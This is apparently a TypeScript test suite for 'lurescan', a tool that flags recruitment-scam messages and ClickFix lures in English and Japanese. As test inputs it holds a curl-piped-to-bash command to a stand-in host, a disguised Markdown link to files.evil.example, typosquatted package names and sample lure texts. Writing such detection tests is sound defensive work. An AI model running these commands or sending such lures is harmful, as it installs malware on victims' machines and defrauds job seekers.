import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { messageCommand } from '../cli/commands/message.js';
import { lookalike } from './artefacts.js';
import { MESSAGES } from './fixtures/messages.js';
import { triageMessage } from './index.js';

describe('lurescan message: labelled set', () => {
  const results = MESSAGES.map((m) => ({ m, r: triageMessage(m.text, { filename: m.filename }) }));
  it('has at least 60 messages in English and Japanese, lures and legitimate ones', () => {
    assert.ok(MESSAGES.length >= 60);
    for (const label of ['lure', 'legit'] as const) {
      for (const lang of ['en', 'ja'] as const) assert.ok(results.some(({ m, r }) => m.label === label && r.language === lang), `${label}/${lang}`);
    }
  });
  it('rates ≥ 90% of lures high or elevated', () => {
    const lures = results.filter(({ m }) => m.label === 'lure');
    const missed = lures.filter(({ r }) => r.risk === 'low').map(({ m }) => m.id);
    assert.ok(lures.length - missed.length >= 0.9 * lures.length, `missed: ${missed.join(', ')}`);
  });
  it('rates ≤ 10% of legitimate messages high', () => {
    const legit = results.filter(({ m }) => m.label === 'legit');
    const high = legit.filter(({ r }) => r.risk === 'high').map(({ m }) => m.id);
    assert.ok(high.length <= 0.1 * legit.length, `rated high: ${high.join(', ')}`);
  });
});

describe('lurescan message: tactics, quotes and artefacts', () => {
  it('a ClickFix one-liner is high on its own, with the command as a dangerous artefact', () => {
    const r = triageMessage('Your camera driver is outdated.\nRun: curl -s https://fix.example/cam.sh | bash');
    assert.equal(r.risk, 'high');
    const cmd = r.artefacts.find((a) => a.type === 'command' && a.dangerous);
    assert.equal(cmd?.value, 'Run: curl -s https://fix.example/cam.sh | bash');
    assert.match(cmd?.note ?? '', /pipes a download into a shell/);
    assert.match(r.playbook[0]!, /Do not run the command/);
  });
  it('quotes the sentence that shows each tactic, with its line', () => {
    const r = triageMessage('Hello.\nWe have a take-home task. It takes about 40 minutes. Clone the repo and run npm start.');
    const test = r.tactics.find((t) => t.id === 'test-task')!;
    assert.deepEqual(test.quotes, [{ text: 'We have a take-home task.', line: 2 }]);
    assert.equal(r.tactics.find((t) => t.id === 'time-box')!.quotes[0]!.text, 'It takes about 40 minutes.');
    assert.equal(r.risk, 'high');
  });
  it('extracts packages only from command context', () => {
    const r = triageMessage('Please run npm i and npm start.\n```\nnpm install left-pad@1.3.0 is-buffer-validator\n```\nAlso `pip install reqeusts`.');
    assert.deepEqual(r.artefacts.filter((a) => a.type === 'package').map((a) => a.value), ['left-pad@1.3.0', 'is-buffer-validator', 'reqeusts']);
  });
  it('classifies repositories, file shares and shorteners', () => {
    const r = triageMessage('Repo https://github.com/acme/task, zip https://www.dropbox.com/s/abc/task.zip?dl=0, short https://bit.ly/xyz, site https://acme.example/jobs.');
    assert.deepEqual(
      r.artefacts.map((a) => [a.type, a.value]),
      [
        ['repository', 'https://github.com/acme/task'],
        ['file-share', 'https://www.dropbox.com/s/abc/task.zip?dl=0'],
        ['shortener', 'https://bit.ly/xyz'],
        ['url', 'https://acme.example/jobs'],
      ],
    );
  });
  it('recognises lookalike domains and leaves the real ones alone', () => {
    assert.match(lookalike('linkedin-careers.net')?.how ?? '', /linkedin plus extra words/);
    assert.match(lookalike('g00gle.com')?.how ?? '', /homoglyphs spelling google/);
    assert.match(lookalike('githuh.com')?.how ?? '', /one letter away from github/);
    assert.match(lookalike('coinbase.co')?.how ?? '', /coinbase under another domain/);
    assert.match(lookalike('zoommeeting.us')?.how ?? '', /zoom plus extra words/);
    for (const ok of ['linkedin.com', 'www.linkedin.com', 'googleapis.com', 'raw.githubusercontent.com', 'us02web.zoom.us', 'acme.example', '203.0.113.7']) assert.equal(lookalike(ok), null, ok);
  });
  it('flags Markdown links whose text shows another host', () => {
    const r = triageMessage('Starter: [github.com/acme/starter](https://files.evil.example/starter.zip)');
    const link = r.artefacts.find((a) => a.dangerous && a.value === 'https://files.evil.example/starter.zip');
    assert.match(link?.note ?? '', /shows github\.com but it goes to files\.evil\.example/);
  });
});

describe('lurescan message: inputs', () => {
  it('reads .eml headers (Reply-To mismatch), encoded subjects and base64 multipart bodies', () => {
    const body = Buffer.from('Please complete the pre-employment test: clone the repo and run npm start.').toString('base64');
    const raw = [
      'From: "HR" <hr@acme-corp.example>',
      'Reply-To: acme.hr.team@gmail.com',
      'Subject: =?utf-8?B?' + Buffer.from('Assessment – next step').toString('base64') + '?=',
      'MIME-Version: 1.0',
      'Content-Type: multipart/alternative; boundary="b1"',
      '',
      '--b1',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      body,
      '--b1--',
      '',
    ].join('\r\n');
    const r = triageMessage(raw, { filename: 'm.eml' });
    assert.equal(r.format, 'eml');
    assert.ok(r.artefacts.some((a) => a.type === 'sender-mismatch' && a.value === 'From acme-corp.example / Reply-To gmail.com'));
    assert.ok(r.tactics.some((t) => t.id === 'test-task' && t.quotes[0]!.line === 2));
    assert.equal(r.tactics.find((t) => t.id === 'test-task')!.quotes[0]!.text, 'Please complete the pre-employment test: clone the repo and run npm start.');
  });
  it('reads Telegram JSON exports with authors and hidden link targets', () => {
    const raw = JSON.stringify({
      name: 'Recruiter',
      messages: [
        { id: 1, type: 'service', action: 'create_group' },
        { id: 2, type: 'message', from: 'Anna', text: ['Test task: ', { type: 'text_link', text: 'github.com/org/task', href: 'https://mega.nz/file/abc' }] },
        { id: 3, type: 'message', from: 'Anna', text: 'Run it locally with npm start please' },
      ],
    });
    const r = triageMessage(raw, { filename: 'result.json' });
    assert.equal(r.format, 'telegram-json');
    assert.match(r.tactics.find((t) => t.id === 'run-locally')!.quotes[0]!.text, /^Anna: Run it locally/);
    assert.ok(r.artefacts.some((a) => a.dangerous && /goes to mega\.nz/.test(a.note ?? '')));
  });
  it('attributes copied Slack and Discord lines to their authors', () => {
    const slack = triageMessage('Mike Chen  10:42 AM\nHi! Quick take-home task for you.\nAlex Kim  10:45 AM\nsure\nMike Chen  10:46 AM\nJust clone it and run npm start locally.');
    assert.equal(slack.tactics.find((t) => t.id === 'run-locally')!.quotes[0]!.text, 'Mike Chen: Just clone it and run npm start locally.');
    const discord = triageMessage('mike_dev — Today at 9:12 PM\nlets continue on telegram, my telegram is @mike_dev');
    assert.match(discord.tactics.find((t) => t.id === 'platform-move')!.quotes[0]!.text, /^mike_dev: /);
    const inline = triageMessage('[21:03] recruiter: please run npm i && npm start on your machine');
    assert.match(inline.tactics.find((t) => t.id === 'run-locally')!.quotes[0]!.text, /^recruiter: please run/);
  });
  it('answers Japanese messages in Japanese', () => {
    const r = triageMessage('あなたからプログラミングを学びたいです。GitHubのユーザー名を教えてください。');
    assert.equal(r.language, 'ja');
    assert.match(r.reply.text, /ビデオ通話/);
    assert.match(r.playbook.join('\n'), /カメラをオン/);
    assert.ok(r.tactics.some((t) => t.id === 'learn-from-you'));
  });
  it('survives junk: empty input, binary, huge lines, broken JSON', () => {
    for (const raw of ['', '\u0000\u0001\u0002', 'a'.repeat(3_000_000), '{"messages": [', 'From: x\n\n']) {
      const r = triageMessage(raw);
      assert.ok(['low', 'elevated', 'high'].includes(r.risk));
    }
  });
});

describe('lurescan message: CLI', () => {
  const run = async (args: string[]) => {
    let out = '';
    let err = '';
    const io = { stdout: { write: (s: string) => (out += s) }, stderr: { write: (s: string) => (err += s) }, env: {} };
    const code = await messageCommand(args, io);
    return { code, out, err };
  };
  it('prints JSON and exits 1 for a lure, 0 for a legitimate message', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lurescan-msg-'));
    try {
      writeFileSync(join(dir, 'lure.txt'), 'Take-home test, 40 minutes: clone the repo, npm i, npm start. Send me your GitHub username.');
      writeFileSync(join(dir, 'ok.txt'), 'Would you be open to a video call next week about a backend role?');
      const lure = await run([join(dir, 'lure.txt'), '--format', 'json']);
      assert.equal(lure.code, 1);
      const report = JSON.parse(lure.out);
      assert.equal(report.kind, 'message');
      assert.equal(report.risk, 'high');
      const ok = await run([join(dir, 'ok.txt')]);
      assert.equal(ok.code, 0);
      assert.match(ok.out, /LOW — no known lure tactic/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
